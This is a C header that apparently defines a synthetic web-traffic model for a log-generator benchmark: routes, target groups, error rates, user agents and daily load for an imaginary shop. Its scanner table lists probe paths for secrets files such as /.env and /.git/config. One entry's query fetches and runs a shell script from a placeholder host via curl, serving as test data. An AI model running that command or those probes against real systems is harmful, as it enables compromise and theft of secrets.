/* workload.h: the synthetic traffic model behind the benchmark generators.
 *
 * One imaginary shop ("shop.example") served by an ALB in front of
 * Lambda functions, plus two container services. The tables describe what
 * is requested and how it behaves (routes, latency, sizes, error rates,
 * clients, user agents, daily rate curve). They hold no log syntax:
 * gen_alb.c and gen_apigw.c draw the same traffic from them, so the two
 * front ends can be compared on equal footing. Data only: no functions, no
 * state (genlib.c holds the draws).
 *
 * Rates are integers (basis points or parts per million) so that the
 * generators stay exact and platform independent.
 */
#ifndef EL_BENCH_WORKLOAD_H
#define EL_BENCH_WORKLOAD_H

/* ------------------------------------------------------------------ */
/* Deployment                                                          */
/* ------------------------------------------------------------------ */

#define EL_WL_ACCOUNT  "123456789012"
#define EL_WL_REGION   "us-east-1"
#define EL_WL_LB_NAME  "prod-edge-alb"
#define EL_WL_LB_ID    "5f1e3c2b9a8d7e60"
/* Public DNS name of the load balancer: clients that speak garbage to the
 * bare listener end up with this host in the malformed request line. */
#define EL_WL_LB_DNS   "prod-edge-alb-1638204517.us-east-1.elb.amazonaws.com"

/* The API Gateway front end (gen_apigw.c) puts the same Lambda functions
 * of api.shop.example behind a REST API (stage "prod", execution and
 * access logs, a Lambda authorizer) and an HTTP API ("$default" stage,
 * access logs). */
#define EL_WL_REST_API_ID  "k7q2m9x4ab"
#define EL_WL_REST_STAGE   "prod"
#define EL_WL_AUTHORIZER   "t4h8qe"        /* the REST API's authorizer id */

/* Load balancer node addresses (one log file stream per node). */
static const char *const el_wl_nodes[] = {
    "52.4.17.203", "34.199.61.12", "3.218.140.77", "54.86.9.241",
};
#define EL_WL_NODES_MAX 4

struct el_wl_host {
    const char *name;
    unsigned char cert;          /* index into el_wl_certs */
};

static const struct el_wl_host el_wl_hosts[] = {
    { "api.shop.example", 0 },      /* 0 */
    { "www.shop.example", 0 },      /* 1 */
    { "admin.shop.example", 1 },    /* 2 */
    { "ws.shop.example", 0 },       /* 3 */
};
enum { EL_WL_H_API = 0, EL_WL_H_WWW = 1, EL_WL_H_ADMIN = 2, EL_WL_H_WS = 3 };

/* ACM certificate ids (wildcard cert, and the admin host's own cert). */
static const char *const el_wl_certs[] = {
    "8c1f2d44-5b7e-4a09-9e3d-61f0b2a7c915",
    "e27a9b03-c4d8-4f61-b2a5-0d93e7f18c46",
};

/* Target groups. Lambda target groups hold exactly one function. */
struct el_wl_tg {
    const char *name;
    const char *id;              /* 16 hex digits, part of the ARN */
    unsigned short port;         /* 0: Lambda target, else instance port */
    unsigned char subnet;        /* IP targets: 10.0.<subnet+0..2>.x */
};

static const struct el_wl_tg el_wl_tgs[] = {
    { "web-fn",        "a41c6e0f9b2d7358", 0, 0 },    /* 0 */
    { "catalog-fn",    "0e9d2b7c5a13f486", 0, 0 },    /* 1 */
    { "search-fn",     "7b3f18e0c6d49a25", 0, 0 },    /* 2 */
    { "cart-fn",       "c25a90d4e7b13f68", 0, 0 },    /* 3 */
    { "checkout-fn",   "5d8e3a1f0c7b9246", 0, 0 },    /* 4 */
    { "orders-fn",     "f063b7d2a9e41c58", 0, 0 },    /* 5 */
    { "users-fn",      "39c4e8a1b6f0d725", 0, 0 },    /* 6 */
    { "auth-fn",       "d7a2f5c09e3b8164", 0, 0 },    /* 7 */
    { "reco-fn",       "61e0c9b4d3a7f852", 0, 0 },    /* 8 */
    { "stores-fn",     "8af31d6e2c05b947", 0, 0 },    /* 9 */
    { "promos-fn",     "2c9b7e04f1a6d835", 0, 0 },    /* 10 */
    { "payments-fn",   "b4d06a83e9c2f517", 0, 0 },    /* 11 */
    { "media-fn",      "e8f27c1a5d940b36", 0, 0 },    /* 12 */
    { "events-fn",     "13a5d9f7b0e6c284", 0, 0 },    /* 13 */
    { "config-fn",     "9e6c0b2f84d1a573", 0, 0 },    /* 14 */
    { "catalog-v2-fn", "47d1e8c3a0f5b692", 0, 0 },    /* 15 */
    { "admin-fn",      "06b8f4e2d7c3a915", 0, 0 },    /* 16 */
    { "exports-fn",    "ca7e3b5910d2f48e", 0, 0 },    /* 17 */
    { "legacy-orders", "5b2e9f07c4a8d163", 8080, 10 },/* 18: ECS tasks */
    { "ws-gateway",    "f9c1a6d3e0b72485", 8080, 20 },/* 19: ECS tasks */
};

/* ------------------------------------------------------------------ */
/* Routes                                                              */
/* ------------------------------------------------------------------ */

/* Query string shapes; the generator fills in values. Long hex ids live
 * in query strings (cursors, tokens): route templating in the reference
 * anchors removes the query, so they never multiply the route count. */
enum el_wl_query {
    EL_WL_Q_NONE = 0,
    EL_WL_Q_PRODUCTS,            /* ?category=<n>&sort=<key>[&cursor=<hex>] */
    EL_WL_Q_SEARCH,              /* ?q=<words>&page=<n> */
    EL_WL_Q_SUGGEST,             /* ?q=<prefix> */
    EL_WL_Q_LIST,                /* ?limit=<n>[&cursor=<hex>] */
    EL_WL_Q_GEO,                 /* ?lat=<f>&lon=<f>&radius=<n> */
    EL_WL_Q_TOKEN,               /* ?token=<hex> */
    EL_WL_Q_THUMB,               /* ?w=<n>&h=<n>&fmt=webp */
};

enum el_wl_flag {
    EL_WL_AUTH      = 1u << 0,   /* listener rule authenticates (OIDC) */
    EL_WL_BIG_REQ   = 1u << 1,   /* bodies can pass the 1 MB Lambda limit */
    EL_WL_BIG_RESP  = 1u << 2,   /* responses can pass the 1 MB limit */
    EL_WL_REDIRECT  = 1u << 3,   /* answered by a redirect rule */
    EL_WL_WS        = 1u << 4,   /* WebSocket upgrade endpoint */
    EL_WL_BEARER    = 1u << 5,   /* needs a user's bearer token: the function
                                  * checks it behind the ALB, a Lambda
                                  * authorizer behind API Gateway, so the
                                  * route's 401s move to the gateway there */
};

struct el_wl_route {
    const char *method;
    const char *path;            /* template: {n} number, {uuid} UUID v4 */
    unsigned char host;          /* el_wl_hosts index */
    unsigned char tg;            /* el_wl_tgs index */
    unsigned short rule;         /* listener rule priority, 0 = default */
    unsigned weight;             /* share of ordinary traffic, any unit */
    unsigned lat_ms;             /* median target time, ms */
    unsigned short lat_sigma;    /* lognormal sigma x 100 */
    unsigned short ok_status;
    unsigned resp_bytes;         /* median response body, bytes */
    unsigned req_bytes;          /* median request body, 0 = none */
    unsigned short err4_bp;      /* 4xx from the target, basis points */
    unsigned short err4_code;    /* the usual 4xx of this route */
    unsigned short err5_bp;      /* 5xx (any cause), basis points */
    unsigned char query;         /* enum el_wl_query */
    unsigned char query_pct;     /* how often the query is present, % */
    unsigned char flags;         /* enum el_wl_flag bits */
    unsigned id_max;             /* {n} drawn from 1..id_max */
};

/* 50 routes. Weights are relative; the two IP-target routes carry ~4 % so
 * that, with WebSockets, ~4.3 % of lines name an instance target and the
 * rest show Lambda's "-". Response sizes are compressed bodies. They are
 * kept so that no route sends more than 2^31 bytes in the 2 M-line corpus:
 * mawk's printf %d saturates there, and the awk anchor must stay exact. */
static const struct el_wl_route el_wl_routes[] = {
/*    method    path                           host            tg rule weight   lat  sig   ok    resp     req   4xx code  5xx query               q% flags             id_max */
    { "GET",    "/",                           EL_WL_H_WWW,    0,   0,  2400,   45,  50, 200,  28000,      0,   43, 404,  50, EL_WL_Q_NONE,       0, EL_WL_REDIRECT,        0 },
    { "GET",    "/health",                     EL_WL_H_API,   14,   2,  2900,    3,  40, 200,    110,      0,    0, 404,   6, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/v1/products",                EL_WL_H_API,    1,  10,  9000,   38,  55, 200,   8000,      0,  128, 400,  56, EL_WL_Q_PRODUCTS,  85, 0,                     0 },
    { "GET",    "/v1/products/{n}",            EL_WL_H_API,    1,  11, 13200,   22,  50, 200,   3500,      0,  278, 404,  50, EL_WL_Q_NONE,       0, 0,                250000 },
    { "GET",    "/v1/products/{n}/reviews",    EL_WL_H_API,    1,  12,  3000,   55,  60, 200,   6000,      0,  160, 404,  62, EL_WL_Q_LIST,      70, 0,                250000 },
    { "POST",   "/v1/products/{n}/reviews",    EL_WL_H_API,    1,  12,   150,   90,  55, 201,    420,    700,  642, 400, 100, EL_WL_Q_NONE,       0, 0,                250000 },
    { "GET",    "/v1/categories",              EL_WL_H_API,    1,  13,  2000,   12,  45, 200,   5200,      0,   11, 400,  38, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/v1/categories/{n}/products", EL_WL_H_API,    1,  13,  4500,   48,  55, 200,  11000,      0,  193, 404,  62, EL_WL_Q_LIST,      60, 0,                   480 },
    { "GET",    "/v1/search",                  EL_WL_H_API,    2,  20,  7000,  140,  70, 200,   9000,      0,  160, 400, 112, EL_WL_Q_SEARCH,   100, 0,                     0 },
    { "GET",    "/v1/search/suggest",          EL_WL_H_API,    2,  21,  6000,   25,  50, 200,    900,      0,   64, 400,  38, EL_WL_Q_SUGGEST,  100, 0,                     0 },
    { "GET",    "/v1/cart",                    EL_WL_H_API,    3,  30,  5000,   30,  50, 200,   2400,      0,  235, 401,  75, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "POST",   "/v1/cart/items",              EL_WL_H_API,    3,  31,  1800,   60,  55, 201,   2500,    180,  449, 409,  88, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "PUT",    "/v1/cart/items/{n}",          EL_WL_H_API,    3,  31,   600,   55,  55, 200,   2500,     60,  321, 404,  88, EL_WL_Q_NONE,       0, EL_WL_BEARER,     900000 },
    { "DELETE", "/v1/cart/items/{n}",          EL_WL_H_API,    3,  31,   500,   45,  50, 204,      0,      0,  321, 404,  75, EL_WL_Q_NONE,       0, EL_WL_BEARER,     900000 },
    { "POST",   "/v1/checkout",                EL_WL_H_API,    4,  40,   400,  420,  60, 201,   1600,    900,  556, 422, 250, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "POST",   "/v1/checkout/{uuid}/confirm", EL_WL_H_API,    4,  40,   350,  900,  65, 200,   1200,    300,  407, 409, 325, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "GET",    "/v1/orders",                  EL_WL_H_API,    5,  50,  1200,   80,  60, 200,   7000,      0,  278, 401,  75, EL_WL_Q_LIST,      60, EL_WL_BEARER,          0 },
    { "GET",    "/v1/orders/{uuid}",           EL_WL_H_API,    5,  50,  1500,   40,  50, 200,   3800,      0,  342, 404,  62, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "GET",    "/v1/orders/{uuid}/tracking",  EL_WL_H_API,    5,  51,   900,  160,  75, 200,   2100,      0,  257, 404, 150, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "POST",   "/v1/orders/{uuid}/cancel",    EL_WL_H_API,    5,  51,    50,  300,  60, 200,    600,     80,  963, 409, 188, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "GET",    "/v1/users/me",                EL_WL_H_API,    6,  60,  4500,   18,  45, 200,   1400,      0,  321, 401,  50, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "PATCH",  "/v1/users/me",                EL_WL_H_API,    6,  60,   100,   70,  55, 200,   1400,    250,  749, 400,  75, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "GET",    "/v1/users/me/addresses",      EL_WL_H_API,    6,  61,   600,   25,  50, 200,   1900,      0,  268, 401,  50, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "POST",   "/v1/users/me/addresses",      EL_WL_H_API,    6,  61,    60,   85,  55, 201,    500,    320,  963, 400,  75, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "GET",    "/v1/users/{n}/wishlist",      EL_WL_H_API,    6,  62,  1100,   35,  55, 200,   4200,      0,  374, 403,  62, EL_WL_Q_NONE,       0, EL_WL_BEARER,    4800000 },
    { "POST",   "/v1/auth/login",              EL_WL_H_API,    7,  70,   800,  240,  45, 200,   1800,    140, 1712, 401,  75, EL_WL_Q_NONE,       0, 0,                     0 },
    { "POST",   "/v1/auth/refresh",            EL_WL_H_API,    7,  71,  2200,   40,  45, 200,   1700,    900,  535, 401,  50, EL_WL_Q_NONE,       0, 0,                     0 },
    { "POST",   "/v1/auth/logout",             EL_WL_H_API,    7,  71,   200,   20,  40, 204,      0,     60,  107, 401,  38, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "GET",    "/v1/recommendations",         EL_WL_H_API,    8,  80,  3500,  180,  60, 200,   9000,      0,   64, 400, 138, EL_WL_Q_LIST,      30, 0,                     0 },
    { "GET",    "/v1/inventory/{n}",           EL_WL_H_API,    1,  14,  2500,   15,  45, 200,    300,      0,  214, 404,  50, EL_WL_Q_NONE,       0, 0,                250000 },
    { "GET",    "/v1/stores",                  EL_WL_H_API,    9,  90,   400,   20,  50, 200,  24000,      0,   86, 400,  38, EL_WL_Q_GEO,       80, 0,                     0 },
    { "GET",    "/v1/stores/{n}",              EL_WL_H_API,    9,  90,   300,   12,  45, 200,   2100,      0,  160, 404,  38, EL_WL_Q_NONE,       0, 0,                   860 },
    { "GET",    "/v1/promotions",              EL_WL_H_API,   10,  95,  1500,   14,  45, 200,   3300,      0,   11, 400,  38, EL_WL_Q_NONE,       0, 0,                     0 },
    { "POST",   "/v1/promotions/validate",     EL_WL_H_API,   10,  95,   300,   45,  50, 200,    250,     90, 1498, 422,  50, EL_WL_Q_NONE,       0, 0,                     0 },
    { "POST",   "/v1/payments/intent",         EL_WL_H_API,   11, 100,   300,  650,  55, 201,    900,    400,  482, 402, 275, EL_WL_Q_NONE,       0, EL_WL_BEARER,          0 },
    { "POST",   "/v1/webhooks/payments",       EL_WL_H_API,   11, 101,   250,   70,  50, 200,     60,   2400,  128, 400, 112, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/v1/images/{n}/thumbnail",    EL_WL_H_API,   12, 110,  6000,   60,  65, 200,  12000,      0,  160, 404,  50, EL_WL_Q_THUMB,     75, 0,               1200000 },
    { "POST",   "/v1/uploads",                 EL_WL_H_API,   12, 111,    80, 1200, 100, 201,    350, 450000,  535, 413, 188, EL_WL_Q_NONE,       0, EL_WL_BIG_REQ,         0 },
    { "GET",    "/v1/exports/{uuid}",          EL_WL_H_API,   17, 112,   150, 2600,  80, 200, 380000,      0,  321, 404, 375, EL_WL_Q_NONE,       0, EL_WL_BIG_RESP,        0 },
    { "POST",   "/v1/events",                  EL_WL_H_API,   13, 120, 12000,    6,  45, 202,     40,   1100,   43, 400,  25, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/v1/config",                  EL_WL_H_API,   14, 130,  2500,    4,  40, 200,   2600,      0,    5, 400,  12, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/v1/feature-flags",           EL_WL_H_API,   14, 131,  2600,    5,  40, 200,   1800,      0,    5, 400,  12, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/v2/products",                EL_WL_H_API,   15, 140,  1200,   32,  55, 200,   9000,      0,  128, 400,  75, EL_WL_Q_PRODUCTS,  85, 0,                     0 },
    { "GET",    "/v2/products/{n}",            EL_WL_H_API,   15, 141,  1400,   20,  50, 200,   4100,      0,  278, 404,  75, EL_WL_Q_NONE,       0, 0,                250000 },
    { "GET",    "/admin/reports/daily",        EL_WL_H_ADMIN, 16, 150,    30, 3500,  70, 200, 120000,      0,  214, 403, 375, EL_WL_Q_NONE,       0, EL_WL_AUTH,            0 },
    { "GET",    "/admin/users",                EL_WL_H_ADMIN, 16, 151,    40,  140,  60, 200,  26000,      0,  160, 403, 125, EL_WL_Q_LIST,      50, EL_WL_AUTH,            0 },
    { "GET",    "/docs",                       EL_WL_H_WWW,    0,   3,     0,    0,   0, 301,      0,      0,    0,   0,   0, EL_WL_Q_NONE,       0, EL_WL_REDIRECT,        0 },
    { "GET",    "/v1/legacy/orders/{n}",       EL_WL_H_API,   18, 200,  3500,   95,  60, 200,   5200,      0,  321, 404, 125, EL_WL_Q_NONE,       0, 0,               7400000 },
    { "POST",   "/v1/legacy/invoices",         EL_WL_H_API,   18, 201,   800,  260,  60, 201,    800,   1900,  428, 400, 188, EL_WL_Q_NONE,       0, 0,                     0 },
    { "GET",    "/ws/notifications",           EL_WL_H_WS,    19, 210,     0,    2,  40, 101,      0,      0,    0,   0,   0, EL_WL_Q_TOKEN,    100, EL_WL_WS,              0 },
};
#define EL_WL_NROUTES (sizeof el_wl_routes / sizeof el_wl_routes[0])

/* Paths that only scanners ask for; a fixed-response rule answers 404.
 * Each has one method so that every scanner path is exactly one route. */
struct el_wl_scan {
    const char *method;
    const char *path;
    const char *query;           /* NULL: none */
    unsigned weight;
};

static const struct el_wl_scan el_wl_scans[] = {
    { "GET",  "/wp-login.php",          NULL,                         30 },
    { "GET",  "/.env",                  NULL,                         25 },
    { "GET",  "/.git/config",           NULL,                         15 },
    { "POST", "/xmlrpc.php",            NULL,                         10 },
    { "GET",  "/phpmyadmin/index.php",  "lang=en",                     8 },
    { "GET",  "/actuator/env",          NULL,                          8 },
    /* The raw space is what the desync classifier flags as SpaceInUri. */
    { "GET",  "/shell",                 "cd+/var/tmp;curl+-sO+ 203.0.113.77/x86.sh;sh+x86.sh", 4 },
};
#define EL_WL_SCAN_SPACE 6       /* the entry whose query has a space */

/* ------------------------------------------------------------------ */
/* Clients                                                             */
/* ------------------------------------------------------------------ */

/* Devices seen in one day; popularity is skewed (a few heavy clients). */
#define EL_WL_CLIENTS     400000u
#define EL_WL_IPV6_PERMIL 180u           /* clients on IPv6 */
#define EL_WL_SCANNERS    240u           /* distinct scanner addresses */

/* First octets of public IPv4 space seen from consumer ISPs. */
static const unsigned char el_wl_v4_first[] = {
    2, 5, 24, 31, 37, 46, 47, 49, 58, 62, 67, 68, 70, 71, 73, 74, 75, 76,
    77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 88, 89, 90, 91, 92, 93, 94, 95,
    96, 97, 98, 99, 101, 103, 104, 107, 108, 109, 112, 115, 118, 121, 124,
    136, 142, 151, 154, 162, 166, 173, 174, 176, 178, 180, 183, 185, 188,
    189, 191, 194, 201, 203, 212, 213, 217, 220, 223,
};

/* First 32 bits of IPv6 prefixes of large access networks. */
static const unsigned el_wl_v6_prefix[] = {
    0x26001700u, 0x2601040au, 0x26030800u, 0x2607fb90u, 0x2a0101e0u,
    0x2a020c7cu, 0x2a0206b8u, 0x24058100u, 0x24097010u, 0x28041b28u,
};

/* User agents, as ALB writes them: '"' as \x22, '\' as \x5c and
 * non-ASCII bytes as \xHH. Relative weights; the shop's own apps make
 * most API calls. */
struct el_wl_ua {
    const char *ua;              /* NULL: no header, logged as "-" */
    unsigned weight;
};

static const struct el_wl_ua el_wl_uas[] = {
    { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36", 1200 },
    { "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1", 950 },
    { "ShopApp/5.8.2 (com.example.shop; build:5821; iOS 18.3.1) Alamofire/5.10.2", 2200 },
    { "ShopApp/5.8.0 (Android 14; Pixel 8; build 5803) okhttp/4.12.0", 1900 },
    { "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.6943.89 Mobile Safari/537.36", 700 },
    { "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15", 500 },
    { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.3065.69", 350 },
    { "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0", 200 },
    { "Mozilla/5.0 (iPad; CPU OS 17_7_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/133.0.6943.84 Mobile/15E148 Safari/604.1", 150 },
    { "ShopApp/5.7.4 (Android 13; SM-A536B; build 5742) okhttp/4.11.0", 350 },
    { "okhttp/4.12.0", 250 },
    { "python-requests/2.32.3", 180 },
    { "axios/1.7.9", 120 },
    { "Go-http-client/2.0", 90 },
    { "curl/8.5.0", 80 },
    { "PostmanRuntime/7.43.0", 40 },
    { "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 100 },
    { "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 40 },
    { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) WindowsPowerShell/5.1.22621.4391", 20 },
    { "PartnerSync/3.2 (+ops@partner.example; profile=\\x22nightly\\x22)", 8 },
    { "\\x22Mozilla/5.0 (Windows NT 10.0; Win64; x64)\\x22", 5 },
    { "SyncAgent/2.0 (Windows; C:\\x5cProgramData\\x5cSyncAgent\\x5cagent.exe)", 4 },
    { "ShopApp/5.8.2 (iPhone de Jos\\xC3\\xA9; iOS 18.3.1) Alamofire/5.10.2", 4 },
    { NULL, 40 },
};

static const struct el_wl_ua el_wl_scan_uas[] = {
    { "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0", 30 },
    { "Mozilla/5.0 zgrab/0.x", 25 },
    { "python-requests/2.27.1", 15 },
    { "Go-http-client/1.1", 15 },
    { "curl/7.68.0", 5 },
    { NULL, 10 },
};

/* ------------------------------------------------------------------ */
/* Time of day                                                         */
/* ------------------------------------------------------------------ */

/* Relative request rate per UTC hour (value at the middle of the hour):
 * EU morning is quiet, the US afternoon and evening is the peak. */
static const unsigned short el_wl_hourly[24] = {
     95,  85,  72,  60,  50,  42,  38,  40,  45,  52,  58,  64,
     72,  82,  95, 108, 118, 124, 126, 125, 122, 118, 112, 104,
};
/* A ten-minute push-notification campaign nearly doubles the rate. */
#define EL_WL_SPIKE_START_MIN (17 * 60 + 30)
#define EL_WL_SPIKE_MINUTES   10
#define EL_WL_SPIKE_PCT       190

/* ------------------------------------------------------------------ */
/* Line kinds: ordinary requests and everything the edge answers itself */
/* ------------------------------------------------------------------ */

/* Rates in parts per million of all requests. Ordinary requests take the
 * rest; their own 4xx/5xx come from the route table. */
#define EL_WL_PPM_WEBSOCKET   3000   /* 101, long-lived connections */
#define EL_WL_PPM_REDIRECT     200   /* 301 */
#define EL_WL_PPM_SCANNER     1000   /* fixed-response 404 */
#define EL_WL_PPM_MALFORMED    250   /* 400, "- http://host:80- -" */
#define EL_WL_PPM_WAF_BLOCK    600   /* 403 */
#define EL_WL_PPM_AUTH_FAIL    100   /* 401 from the authenticate action */
#define EL_WL_PPM_CLIENT_GONE  400   /* 460 */
#define EL_WL_PPM_WAF_FAILED    10   /* WAF fail-open: served, with error */
#define EL_WL_PPM_DESYNC        60   /* forwarded, desync classification */

/* Of the 5xx of a Lambda route, per 1,000. */
#define EL_WL_L5_FN500         560   /* function returned statusCode 500 */
#define EL_WL_L5_UNHANDLED     120   /* function threw */
#define EL_WL_L5_TIMEOUT        60   /* function hit its 30 s timeout */
#define EL_WL_L5_INVALID        60   /* malformed response object */
#define EL_WL_L5_THROTTLE      100   /* concurrency limit */
#define EL_WL_L5_GATEWAY        70   /* 504, nothing came back */
#define EL_WL_L5_TOO_LARGE      30   /* response over 1 MB (BIG_RESP only) */
/* Of the 5xx of an IP-target route, per 1,000. */
#define EL_WL_I5_TARGET500     600
#define EL_WL_I5_NO_TARGETS    250   /* 503, no healthy targets */
/* rest: 504 idle timeout */

/* Lambda */
#define EL_WL_LAMBDA_TIMEOUT_MS   30000
#define EL_WL_COLD_START_PERMIL   8
#define EL_WL_COLD_START_MS       450
#define EL_WL_LAMBDA_BODY_MAX     1048576
#define EL_WL_IDLE_TIMEOUT_MS     60000

/* Secondary 4xx codes a function returns, per 1,000 of its 4xx. The
 * route's own err4_code takes the first 600. */
static const unsigned short el_wl_4xx_codes[] = { 400, 401, 403, 404, 429 };
static const unsigned short el_wl_4xx_permil[] = { 120, 80, 60, 100, 40 };

/* Authenticate-action failures (AWS error_reason names). */
static const char *const el_wl_auth_errors[] = {
    "AuthInvalidIdToken", "AuthInvalidIdToken", "AuthInvalidCookie",
    "AuthInvalidStateParam", "AuthMissingCodeParam", "AuthInvalidGrantError",
};

/* Words for search queries; a few are percent-encoded, one is raw UTF-8
 * that ALB escapes byte by byte. */
static const char *const el_wl_words[] = {
    "shoes", "running+shoes", "rain+jacket", "backpack", "coffee+grinder",
    "desk+lamp", "wool+socks", "headphones", "usb-c+cable", "yoga+mat",
    "water+bottle", "gift+card", "kids%27+boots", "caf%C3%A9+table",
    "tent", "sunglasses", "phone+case", "air+fryer", "caf\\xC3\\xA9", "linen+shirt",
};

#endif /* EL_BENCH_WORKLOAD_H */
